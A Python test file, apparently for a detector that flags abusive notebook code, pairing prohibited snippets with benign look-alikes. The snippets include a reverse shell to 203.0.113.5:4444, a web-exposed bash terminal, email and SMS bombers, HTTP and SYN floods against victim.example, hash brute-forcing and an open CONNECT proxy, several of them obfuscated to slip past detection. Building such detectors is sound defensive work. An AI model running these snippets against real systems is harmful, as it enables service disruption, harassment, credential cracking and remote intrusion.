    range, request by request: the code is guessed. A code made from each account's own secret is a login."""
    verdict = engine.check_code(OTP_GUESSER.format(code=code, items=items), "python")
    assert flagged(verdict, "password_cracking") is guesses, verdict.to_dict()


PTY_PANEL = """\
import os, pty, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

pid, fd = pty.fork()
if pid == 0:
    os.execv({program!r}, [{program!r}])
seen = bytearray()
threading.Thread(target=lambda: seen.extend(os.read(fd, 65536)), daemon=True).start()

class Panel(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(bytes(seen))
    def do_POST(self):
        os.write(fd, {keys})
        self.send_response(204)
        self.end_headers()

ThreadingHTTPServer(("0.0.0.0", 7681), Panel).serve_forever()
"""


@pytest.mark.parametrize("program, keys, terminal", [
    ("/bin/bash", "self.rfile.read(int(self.headers['Content-Length']))", True),
    # the look-alike shows a monitor's screen and sends it only its own key to quit
    ("/usr/bin/top", "b'q'", False),
    ("/bin/bash", "b'exit\\n'", False),  # a shell sent only the program's own words: nothing from the client
])
def test_a_shell_on_a_terminal_fed_by_a_web_page_is_a_web_terminal(engine, program, keys, terminal):
    """A shell on a pseudo-terminal whose terminal is written with what each POST sends: a hand-written web
    terminal (shell/web). A page that shows a program's screen and sends it a fixed key hands out no shell."""
    verdict = engine.check_code(PTY_PANEL.format(program=program, keys=keys), "python")
    assert any(f.rule == "remote_desktop_ssh.web-terminal" for f in verdict.findings) is terminal, verdict.to_dict()


HELPER_PORTAL = """\
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

STORE = "/content/inbox"
{helper}

class Inbox(BaseHTTPRequestHandler):
    def do_POST(self):
        name = os.path.basename(self.path)
        body = self.rfile.read(int(self.headers["Content-Length"]))
        {call}
        self.send_response(201)
        self.end_headers()

ThreadingHTTPServer(("0.0.0.0", 8765), Inbox).serve_forever()
"""


@pytest.mark.parametrize("helper, call, kept", [
    ("def store(filename, blob):\n    with open(os.path.join(STORE, filename), 'wb') as out:\n        out.write(blob)",
     "store(name, body)", True),
    ("save = lambda n, data: open(os.path.join(STORE, n), 'wb').write(data)", "save(name, body)", True),
    # the look-alike logs the size of each request to a fixed text file
    ("def note(line):\n    with open('/content/requests.log', 'a') as log:\n        log.write(line + '\\n')",
     "note(f'{name}: {len(body)} bytes')", False),
])
def test_an_upload_kept_by_a_helper_the_handler_calls(engine, helper, call, kept):
    """A handler that hands the body it received to a helper of the cell's (a function or a named lambda) that
    writes it into a file: the upload is kept (server/upload), as if written in the handler. A helper that logs a
    line of text to a fixed file keeps nothing a client sent."""
    verdict = engine.check_code(HELPER_PORTAL.format(helper=helper, call=call), "python")
    assert flagged(verdict, "web_file_hosting") is kept, verdict.to_dict()


MAILER = """\
import smtplib
from email.message import EmailMessage
from tqdm.auto import tqdm

BOOK = {{"to": "76696374696d406578616d706c652e6f7267"}}
def field(key):
    return bytes.fromhex(BOOK[key]).decode()

with smtplib.SMTP("smtp.example.org", 587) as smtp:
    smtp.login(USER, PASSWORD)
    for item in tqdm({items}, desc="sending"):
        msg = EmailMessage()
        msg["From"], msg["To"] = USER, {to}
        msg["Subject"] = "Notice"
        msg.set_content("Please read this message.")
        smtp.send_message(msg)
"""


@pytest.mark.parametrize("items, to, storm", [
    ("range(1000)", "field('to')", True),
    ("subscribers", "item", False),  # the look-alike: a newsletter, each subscriber once
])
def test_one_decoded_address_mailed_over_a_progress_bar_is_a_storm(engine, items, to, storm):
    """The same address, decoded by a helper of the cell's, sent mail a thousand times in a loop drawn with a
    progress bar (tqdm(range(n)) is range(n)): an email bomber. A newsletter sends each subscriber one mail."""
    verdict = engine.check_code(MAILER.format(items=items, to=to), "python")
    assert flagged(verdict, "dos_attack") is storm, verdict.to_dict()


@pytest.mark.parametrize("urls, flood", [
    ("['http://victim.example/'] * 60000", True),
    ("targets.url.repeat(targets.weight * 20000).sample(frac=1).tolist()", True),
    ("itertools.repeat('http://victim.example/', 60000)", True),
    ("targets.url.tolist()", False),  # each listed page once: a crawl of the table
    ("['http://victim.example/'] * 3", False),
])
def test_workers_mapped_over_copies_of_one_target_are_a_flood(engine, urls, flood):
    """An executor's map over a collection that copies a few URLs many times (a list multiplied, a pandas column
    repeated by its weights and shuffled, ``itertools.repeat``), bound to a name first: many workers sending to
    one target. The look-alikes map over each listed page once, or over a few copies."""
    cell = ("import io, itertools, requests, pandas as pd\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "targets = pd.read_csv(io.StringIO('url,weight\\nhttp://victim.example/,5\\n"
            "http://victim.example/login,2\\n'))\n"
            f"urls = {urls}\n"
            "def hit(u):\n    try:\n        return requests.get(u, timeout=3).status_code\n"
            "    except Exception:\n        return -1\n"
            "with ThreadPoolExecutor(max_workers=512) as ex:\n    codes = list(ex.map(hit, urls))\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("secret, cracked", [("'8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92'", True),
                                             ("sha256(str(random.randint(0, 9999)).encode()).hexdigest()", False)])
def test_a_digest_the_program_made_from_a_number_it_drew_is_a_game_not_a_crack(engine, secret, cracked):
    """A proof-of-work lesson: the class sets its challenge as the digest of a number it drew itself, and the
    loop guesses it back. The prohibited twin guesses the PIN behind a digest it was given."""
    cell = ("import random\nfrom hashlib import sha256\n"
            f"class Chain:\n    def new_challenge(self):\n        self.challenge = {secret}\n"
            "chain = Chain()\nchain.new_challenge()\n"
            "for guess in range(10000):\n"
            "    if sha256(str(guess).encode()).hexdigest() == chain.challenge:\n"
            "        print('found', guess)\n        break\n")
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("paths, bomber", [(("v1/otp/send", "login/otp", "api/sendSms"), True),
                                           (("v1/contacts", "crm/leads", "api/customers"), False)])
def test_records_of_a_table_of_messaging_endpoints_posted_one_number_are_a_bomber(engine, paths, bomber):
    """A table of OTP/SMS endpoints (inline JSON read by pandas), each record's URL posted the number typed in,
    200 times over by an executor: a message storm. The look-alike posts the number to a table of CRM endpoints."""
    rows = ", ".join(f'{{"url": "https://s{i}.example/{p}", "field": "mobile"}}' for i, p in enumerate(paths))
    cell = ("import io, itertools, requests, pandas as pd\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "phone = input('number: ')\n"
            f"apis = pd.read_json(io.StringIO('[{rows}]'))\n"
            "def send(job):\n    api, _ = job\n"
            "    return requests.post(api.url, json={api.field: phone}, timeout=10).status_code\n"
            "with ThreadPoolExecutor(32) as ex:\n"
            "    res = list(ex.map(send, itertools.product(apis.itertuples(), range(200))))\n")
    assert flagged(engine.check_code(cell), "dos_attack") is bomber


@pytest.mark.parametrize("endpoint, flood", [("http://203.0.113.7/", True), ("http://127.0.0.1:8000/", False)])
def test_settings_written_inline_in_yaml_are_read(engine, endpoint, flood):
    """A load generator whose endpoint and counts are YAML settings in the cell (``yaml.safe_load``): read, so
    the target is known. The look-alike is a paced test of one's own server on loopback."""
    cell = ("import asyncio, aiohttp, yaml\n"
            f"cfg = yaml.safe_load('''\nendpoint: {endpoint}\nworkers: 500\nrounds: 100000\n''')\n"
            "async def worker(session):\n    for _ in range(cfg['rounds']):\n"
            "        async with session.get(cfg['endpoint']) as r:\n            pass\n"
            "async def main():\n    async with aiohttp.ClientSession() as s:\n"
            "        await asyncio.gather(*(worker(s) for _ in range(cfg['workers'])))\n"
            "await main()\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("retries, flood", [("1_000_000", True), ("3", False)])
def test_a_settings_dataclass_with_a_float_field_is_read(engine, retries, flood):
    """A dataclass of settings (fields only, one a float, a list made by ``default_factory``): its fields are
    read, so a loop of ``cfg.max_retries`` rounds is known to be short. The prohibited twin sends a million."""
    cell = ("import requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass Cfg:\n"
            "    endpoints: list = field(default_factory=lambda: ['https://shop.example/'])\n"
            f"    max_retries: int = {retries}\n    backoff: float = 2.0\n"
            "def check(url, cfg):\n    for _ in range(cfg.max_retries):\n        requests.get(url, timeout=5)\n"
            "cfg = Cfg()\nfor url in cfg.endpoints:\n    check(url, cfg)\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("target, flood", [("203.0.113.7", True), ("127.0.0.1", False)])
def test_names_unpacked_from_a_generator_of_lookups_are_known(engine, target, flood):
    """``ip_, tcp_, tx = (getattr(sc, n[::-1]) for n in (...))``: each name is the module attribute its item looks
    up, so ``tx(pkt, count=...)`` is scapy's send. The look-alike sends to this machine."""
    cell = ("import importlib\nsc = importlib.import_module('lla.ypacs'[::-1])\n"
            "ip_, tcp_, tx = (getattr(sc, n[::-1]) for n in ('PI', 'PCT', 'dnes'))\n"
            f"tx(ip_(dst='{target}') / tcp_(dport=443, flags='S'), count=1000000, verbose=False)\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("host, flood", [("victim.example", True), ("127.0.0.1", False)])
@pytest.mark.parametrize("through_helper", [False, True])
def test_http_client_connections_are_judged_by_the_host_they_were_opened_to(engine, host, flood, through_helper):
    """``http.client``: ``c.request('POST', path)`` names only the path; the host is the connection's, opened
    directly or by a helper that returns it. Threads posting forever to a remote host flood it; the look-alike
    loads this machine."""
    opened = f"http.client.HTTPConnection('{host}', 80, timeout=5)"
    helper = f"def new_conn():\n    return {opened}\n" if through_helper else ""
    cell = (f"import http.client, threading\n{helper}def loop():\n"
            f"    c = {'new_conn()' if through_helper else opened}\n"
            "    while True:\n        c.request('POST', '/login', 'user=a&pass=x')\n        c.getresponse().read()\n"
            "for _ in range(200):\n    threading.Thread(target=loop).start()\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("base, flood", [("https://victim.example", True), ("http://127.0.0.1:8001", False)])
def test_a_clients_base_url_is_its_requests_target(engine, base, flood):
    """``httpx.AsyncClient(base_url=...)`` then ``c.get('/predict')``: the path alone names no host, the client's
    base URL does. Thousands of tasks against another host flood it; the look-alike loads a local app."""
    cell = ("import asyncio, httpx\n"
            "async def run(n):\n"
            f"    async with httpx.AsyncClient(base_url='{base}') as c:\n"
            "        async def one(i):\n            await c.get('/predict', params={'x': i})\n"
            "        await asyncio.gather(*(one(i) for i in range(n)))\n"
            "asyncio.run(run(100000))\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("url, flood", [("https://victim.example/api/search", True), ("http://127.0.0.1:8000/", False)])
def test_widget_values_are_the_values_they_were_given(engine, url, flood):
    """A Colab app's ipywidgets: ``url.value`` is the Text's ``value=``, ``verb.value`` a Dropdown's first
    option, read inside the button's callback. The look-alike fires at this machine."""
    cell = ("import asyncio, aiohttp\nimport ipywidgets as widgets\n"
            f"url = widgets.Text(value='{url}')\nverb = widgets.Dropdown(options=['GET', 'POST'])\n"
            "total = widgets.IntSlider(value=100000)\n"
            "async def storm(target, method, n):\n    async with aiohttp.ClientSession() as s:\n"
            "        call = getattr(s, method.lower())\n"
            "        async def one():\n            async with call(target):\n                pass\n"
            "        await asyncio.gather(*(one() for _ in range(n)))\n"
            "def on_go(_):\n    asyncio.ensure_future(storm(url.value, verb.value, total.value))\n"
            "widgets.Button(description='Fire').on_click(on_go)\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("services, bomber", [("SERVICES", True), ("CONTACTS", False)])
def test_a_service_drawn_at_random_each_round_is_one_of_many(engine, services, bomber):
    """``url, body = random.choice(SERVICES)`` each round, the number posted as the form a helper builds: one
    number texted by a collection of services. The look-alike draws from a list named for contacts."""
    cell = ("import random, requests\n"
            f"{services} = [('https://a.example/v1/x', lambda n: {{'phone': n}}), "
            "('https://b.example/v2/y', lambda n: {'mobile': n})]\n"
            "def blast(number, rounds):\n    for i in range(rounds):\n"
            f"        url, body = random.choice({services})\n"
            "        requests.post(url, json=body(number), timeout=10)\n"
            "blast(input('number: '), 500)\n")
    assert flagged(engine.check_code(cell), "dos_attack") is bomber


@pytest.mark.parametrize("host, hosting", [("0.0.0.0", True), ("127.0.0.1", False)])
def test_a_folder_server_looked_up_by_name_serves_files(engine, host, hosting):
    """Flask's ``send_from_directory`` reached as ``getattr(<module from a table>, 'send_from_directory')``: a
    folder handed out to visitors on every interface. The look-alike serves it on loopback only."""
    cell = ("import importlib\nmods = {k: importlib.import_module(v) for k, v in {'web': 'flask'}.items()}\n"
            "App = getattr(mods['web'], 'Flask')\nsend_dir = getattr(mods['web'], 'send_from_directory')\n"
            "app = App(__name__)\ndef get(name):\n    return send_dir('/content/drive/MyDrive/share', name)\n"
            f"app.add_url_rule('/f/<path:name>', 'get', get)\napp.run(host='{host}', port=5000)\n")
    assert flagged(engine.check_code(cell), "web_file_hosting") is hosting


@pytest.mark.parametrize("url, flood", [("https://victim.example/predict", True), ("http://127.0.0.1:5055/predict", False)])
def test_a_builders_setter_gives_its_attribute_the_value_its_calls_pass(engine, url, flood):
    """A builder (``LoadTest().url(u).requests(n)...``) keeps the URL as ``self._url`` through a setter method:
    what the chained calls pass is its value (``None`` in ``__init__`` is only a default). Thousands of requests
    to another host are a flood; the look-alike benchmarks its own local API."""
    cell = ("import requests\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "class LoadTest:\n    def __init__(self):\n        self._url, self._total = None, 100\n"
            "    def url(self, u):\n        self._url = u\n        return self\n"
            "    def requests(self, n):\n        self._total = n\n        return self\n"
            "    def _one(self, _):\n        requests.get(self._url, timeout=5).raise_for_status()\n"
            "    def __call__(self):\n        with ThreadPoolExecutor(64) as pool:\n"
            "            list(pool.map(self._one, range(self._total)))\n"
            f"LoadTest().url('{url}').requests(100000)()\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("verb, relay", [('"CON" + "NE" + "CT"', True), ('"GE" + "T"', False)])
def test_a_connect_method_put_together_from_pieces_makes_a_relay(engine, verb, relay):
    """An HTTP proxy whose CONNECT is assembled from pieces and whose dialler is an entry of the socket module's
    namespace (``vars(socket)['create_connection']``): a relay on every interface. The look-alike's handler
    answers GET itself after fetching a health check."""
    cell = ("import socket, socketserver\n"
            f"VERB = {verb}\ndial = vars(socket)['create' + '_connection']\n"
            "class Handler(socketserver.StreamRequestHandler):\n    def handle(self):\n"
            "        request = self.rfile.readline().decode().split()\n"
            "        if request[0] != VERB:\n            return\n"
            "        host, port = request[1].rsplit(':', 1)\n        up = dial((host, int(port)))\n"
            "        self.wfile.write(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n"
            "socketserver.ThreadingTCPServer(('0.0.0.0', 3128), Handler).serve_forever()\n")
    assert flagged(engine.check_code(cell), "proxy_tunnel") is relay


@pytest.mark.parametrize("target, cracked", [("'5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8'", True),
                                             ("hashlib.sha256(b'demo').hexdigest()", False)])
def test_a_test_lambda_filtered_over_candidates_is_a_trial(engine, target, cracked):
    """``next(filter(matches, candidates))`` with ``matches = lambda w: sha256(w).hexdigest() == target``: each
    candidate of a brute-force product tried against a given hash. The look-alike's target is the digest of a
    password the cell holds (a lesson on how fast it falls)."""
    cell = ("import hashlib, itertools, string\n"
            f"target = {target}\n"
            "matches = lambda word: hashlib.sha256(word.encode()).hexdigest() == target\n"
            "candidates = map(''.join, itertools.product(string.ascii_lowercase, repeat=6))\n"
            "print(next(filter(matches, candidates), None))\n")
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("recipient, storm", [("'inbox@example.org'", True), ("row", False)])
def test_an_aiosmtplib_send_repeated_to_one_address_is_a_mail_storm(engine, recipient, storm):
    """``aiosmtplib.send(msg, **relay)`` from twenty tasks of 250 sends, the message's ``To`` set by the helper
    that builds it: one inbox flooded. The look-alike sends one message to each subscriber of a list, once."""
    loop = "for i in range(count)" if storm else "for row in subscribers"
    cell = ("import asyncio\nfrom email.message import EmailMessage\nimport aiosmtplib as mailer\n"
            "relay = {'hostname': 'smtp.example.net', 'port': 587}\n"
            "subscribers = ['a@example.org', 'b@example.org']\n"
            f"def build(i):\n    m = EmailMessage()\n    m['To'] = {recipient if storm else 'i'}\n"
            "    m.set_content('hello')\n    return m\n"
            f"async def sender(count):\n    {loop}:\n        await mailer.send(build({'i' if storm else 'row'}), **relay)\n"
            "async def main():\n"
            f"    await {'asyncio.gather(*(sender(250) for _ in range(20)))' if storm else 'sender(1)'}\n"
            "asyncio.run(main())\n")
    assert flagged(engine.check_code(cell), "dos_attack") is storm


@pytest.mark.parametrize("compare, cracked", [("b.digest() in targets", True), ("b.nonce % 2000 == 0", False)])
def test_an_attribute_of_an_object_that_hashes_is_no_digest(engine, compare, cracked):
    """A block made with the digest of the block before it, whose method hashes it: the block's digest looked up
    among given hashes for each word of a list is a trial; its nonce counter tested for a yield point (a
    proof-of-work lesson's nodes) is not a digest, though the block was made from one."""
    cell = ("import hashlib, json\n"
            "targets = {'5f4dcc3b5aa765d61d8327deb882cf99'}\n"
            "class Block:\n    def __init__(self, data, prev):\n        self.data, self.prev, self.nonce = data, prev, 0\n"
            "    def digest(self):\n        return hashlib.md5((self.data + self.prev).encode()).hexdigest()\n"
            "genesis = Block('genesis', '')\n"
            "for word in open('words.txt').read().split():\n    b = Block(word, genesis.digest())\n"
            f"    if {compare}:\n        print(word)\n")
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("host, hosting", [("0.0.0.0", True), ("127.0.0.1", False)])
def test_an_asyncio_stream_server_that_writes_a_chosen_file_serves_files(engine, host, hosting):
    """``asyncio.start_server(handle, host, port)`` whose handler reads the request line and writes the file it
    names to the client's stream writer: a hand-written file server. The look-alike listens on loopback only."""
    cell = ("import asyncio, os\nROOT = '/content/share'\n"
            "async def handle(reader, writer):\n    line = (await reader.readline()).decode().split()\n"
            "    path = os.path.join(ROOT, line[1].lstrip('/'))\n    with open(path, 'rb') as f:\n"
            "        while chunk := f.read(65536):\n            writer.write(chunk)\n            await writer.drain()\n"
            "    writer.close()\n"
            f"async def main():\n    srv = await asyncio.start_server(handle, {host!r}, 8081)\n"
            "    await srv.serve_forever()\nasyncio.run(main())\n")
    assert flagged(engine.check_code(cell), "web_file_hosting") is hosting


@pytest.mark.parametrize("fed, remote", [("chunk", True), ("b'make test\\n'", False)])
def test_a_pty_written_with_what_an_asyncio_connection_sent_is_a_remote_shell(engine, fed, remote):
    """``pty.fork()`` with a shell in the child, its terminal written with what ``asyncio.open_connection``'s reader
    returns: a reverse shell. The look-alike drives the terminal with its own fixed command and only streams the
    output to a log collector."""
    cell = ("import asyncio, os, pty\n"
            "async def session():\n    r, w = await asyncio.open_connection('203.0.113.5', 4444)\n"
            "    pid, fd = pty.fork()\n    if pid == 0:\n        os.execvp('/bin/bash', ['/bin/bash', '-i'])\n"
            "    while chunk := await r.read(4096):\n"
            f"        os.write(fd, {fed})\n        w.write(os.read(fd, 4096))\n"
            "asyncio.run(session())\n")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "remote_desktop_ssh") is remote


@pytest.mark.parametrize("compared, cracked", [("digest(w) in targets", True), ("len(w) > 64", False)])
def test_a_batch_from_a_queue_checked_in_an_executor_lambda_is_a_trial(engine, compared, cracked):
    """Batches of a word list's lines put on an asyncio queue; each batch awaited from the queue and checked in
    ``run_in_executor(None, lambda ws=words: [... for w in ws if digest(w) in targets])``: the lambda runs in the
    worker's loop, its default binds the batch. The look-alike only measures the lines' lengths."""
    cell = ("import asyncio, hashlib\ntargets = {'5f4dcc3b5aa765d61d8327deb882cf99': None}\n"
            "def digest(word):\n    return hashlib.md5(word).hexdigest()\n"
            "async def feed(q, path):\n    batch = []\n    with open(path, 'rb') as fh:\n        for raw in fh:\n"
            "            batch.append(raw.strip())\n            if len(batch) == 1000:\n"
            "                await q.put(batch)\n                batch = []\n"
            "async def check(q):\n    loop = asyncio.get_running_loop()\n    while True:\n"
            "        words = await q.get()\n"
            f"        hits = await loop.run_in_executor(None, lambda ws=words: [w for w in ws if {compared}])\n"
            "        print(hits)\n        q.task_done()\n")
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("yielded, flood", [("'https://shop.example.com'", True), ("f'http://127.0.0.1:{port}'", False)])
def test_a_url_yielded_by_a_context_manager_is_known_to_the_flood_shape(engine, yielded, flood):
    """``with local_server(app) as base`` where the cell's ``@contextmanager`` yields the address, and 400 copies of
    ``f'{base}/predict'`` mapped over eight workers: a load test of one's own server on loopback is no flood; the
    same shape aimed at a shop is."""
    cell = ("import contextlib, threading\nfrom concurrent.futures import ThreadPoolExecutor\nimport requests\n"
            "@contextlib.contextmanager\ndef local_server(app, port=5055):\n    t = threading.Thread(target=app.run)\n"
            f"    t.start()\n    yield {yielded}\n"
            "def timed_get(url):\n    requests.get(url, timeout=5)\n"
            "with local_server(None) as base:\n    with ThreadPoolExecutor(max_workers=8) as pool:\n"
            "        list(pool.map(timed_get, [f'{base}/predict'] * 400))\n")
    assert flagged(engine.check_code(cell), "dos_attack") is flood


@pytest.mark.parametrize("wanted, cracked", [("open('dump.txt').read().split()", True),
                                             ("[hashlib.sha1(b'hunter2').hexdigest()]", False)])
def test_an_object_whose_call_compares_a_digest_is_driven_by_the_loop_that_calls_it(engine, wanted, cracked):
    """``match = Matcher(hashes); match(word)`` for each line of a word list, where ``Matcher.__call__`` hashes the
    candidate and looks it up among the wanted digests: the object is the trial function. The look-alike's only
    wanted digest is made from a password the cell holds (a lesson on how fast it falls)."""
    cell = ("import hashlib\nclass Matcher:\n    def __init__(self, targets):\n        self.targets = set(targets)\n"
            "    def __call__(self, candidate):\n        d = hashlib.sha1(candidate.encode()).hexdigest()\n"
            "        if d in self.targets:\n            print(candidate)\n"
            f"match = Matcher({wanted})\n"
            "with open('words.txt') as f:\n    for w in f:\n        match(w.strip())\n")
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("host, hosting", [("'0.' * 3 + '0'", True), ("'127.0.0.1'", False)])
@pytest.mark.parametrize("form", ["display", "dict call"])
def test_a_thread_started_with_a_named_kwargs_dict_binds_where_it_says(engine, host, hosting, form):
    """``Thread(target=uvicorn.run, args=(app,), kwargs=cfg)`` with ``cfg = {'host': ..., 'port': ...}`` kept in a
    name: the server listens where the dict says, and serves files by name (``FileResponse``). The look-alike keeps
    the same app on loopback."""
    cell = ("import os, threading\nfrom fastapi import FastAPI\nfrom fastapi.responses import FileResponse\n"
            "import uvicorn\nROOT = '/content/drive/MyDrive/share'\napp = FastAPI()\n"
            "@app.get('/get/{name}')\ndef get(name: str):\n    return FileResponse(os.path.join(ROOT, name))\n"
            + (f"cfg = {{'host': {host}, 'port': 8765}}\n" if form == "display" else f"cfg = dict(host={host}, port=8765)\n") +
            "threading.Thread(target=uvicorn.run, args=(app,), kwargs=cfg, daemon=True).start()\n")
    assert flagged(engine.check_code(cell), "web_file_hosting") is hosting


@pytest.mark.parametrize("shown, hosting", [("db.execute('SELECT name, msg FROM posts').fetchall()", True),
                                            ("{'label': 'cat'}", False)])
def test_a_tunnelled_site_that_keeps_and_shows_visitors_posts_is_hosting(engine, shown, hosting):
    """A FastAPI board whose handlers ``INSERT`` what visitors post into SQLite and ``SELECT`` it back for the
    home page, run on every interface behind localtunnel: a website kept for its users. The look-alike stores the
    same posts (a log of its own app's calls) but shows visitors only its answer."""
    cell = ("import sqlite3, threading\nimport uvicorn\nfrom fastapi import FastAPI\n"
            "db = sqlite3.connect('board.db', check_same_thread=False)\napp = FastAPI()\n"
            f"@app.get('/')\ndef home():\n    return {shown}\n"
            "@app.post('/post')\ndef post(name: str, msg: str):\n"
            "    db.execute('INSERT INTO posts VALUES (?, ?)', (name, msg))\n    db.commit()\n    return {'ok': True}\n"
            "threading.Thread(target=uvicorn.run, args=(app,), kwargs={'host': '0.0.0.0', 'port': 7860}).start()\n"
            "!lt --port 7860 --subdomain board-demo\n")
    assert flagged(engine.check_code(cell), "web_file_hosting") is hosting


@pytest.mark.parametrize("outer, cracked", [("for word in open('words.txt'):\n    cand = word.strip()\n", True),
                                            ("for cand in ['hunter2']:\n", False)])
def test_candidates_from_a_loop_around_the_loop_over_stored_hashes_are_a_trial(engine, outer, cracked):
    """Each stored salted hash checked in an inner loop over the users, inside a loop over a word list's lines: the
    inner loop pairs each user with their own hash, the outer one supplies the guesses. The look-alike checks one
    password the cell holds against every account (a reused-password audit of its own list)."""
    inner = "".join("    " + line + "\n" for line in (
        "for user, h in list(store.items()):", "    salt, _, hv = h.partition('$')",
        "    if hashlib.md5((salt + cand).encode()).hexdigest() == hv:", "        print(user, cand)"))
    cell = ("import hashlib\nstore = dict(line.strip().split(',') for line in open('dump.csv'))\n" + outer + inner)
    assert flagged(engine.check_code(cell), "password_cracking") is cracked


@pytest.mark.parametrize("items, to, storm", [
    ("range(1000)", "'help@example.org'", True),
    ("subscribers", "item", False),  # the look-alike: a newsletter, each subscriber once
])
def test_a_send_bound_through_partial_is_the_method_it_wraps(engine, items, to, storm):
    """``send = functools.partial(smtp.send_message)`` then ``send(msg)``: the name is the method it wraps, so a
    thousand mails to one address through it are a storm, and one mail to each subscriber is a newsletter."""
    cell = MAILER.format(items=items, to=to).replace(
        "        smtp.send_message(msg)\n", "        send = partial(smtp.send_message)\n        send(msg)\n")
    verdict = engine.check_code("from functools import partial\n" + cell, "python")
    assert flagged(verdict, "dos_attack") is storm, verdict.to_dict()


CLASS_LOAD_TEST = """\
import requests
from concurrent.futures import ThreadPoolExecutor

class LocalServer:
    def __init__(self, port=8765):
        self.port = port
    def __enter__(self):
        return f"http://127.0.0.1:{{self.port}}/health"
    def __exit__(self, *a):
        pass

class LoadTest:
    def __init__(self, url, total=100000):
        self.url, self.total = url, total
    def _hit(self, _):
        requests.get(self.url, timeout=5)
    def __call__(self):
        with ThreadPoolExecutor(64) as ex:
            list(ex.map(self._hit, range(self.total)))

with LocalServer() as url:
    LoadTest({target})()
"""


@pytest.mark.parametrize("target, flood", [
    ("'http://shop.example.net/'", True),
    ("url", False),  # the look-alike: the address its own local fixture's __enter__ gives
])
def test_a_class_whose_target_comes_from_its_constructor_is_judged_by_what_it_is_given(engine, target, flood):
    """``self.url`` set by ``__init__`` from ``LoadTest(url)``: the requests go where the constructions send them,
    and ``with LocalServer() as url`` binds what the class's ``__enter__`` returns (a local test server's address),
    so a load test of one's own fixture is no flood, and the same class aimed at a shop is."""
    verdict = engine.check_code(CLASS_LOAD_TEST.format(target=target), "python")
    assert flagged(verdict, "dos_attack") is flood, verdict.to_dict()
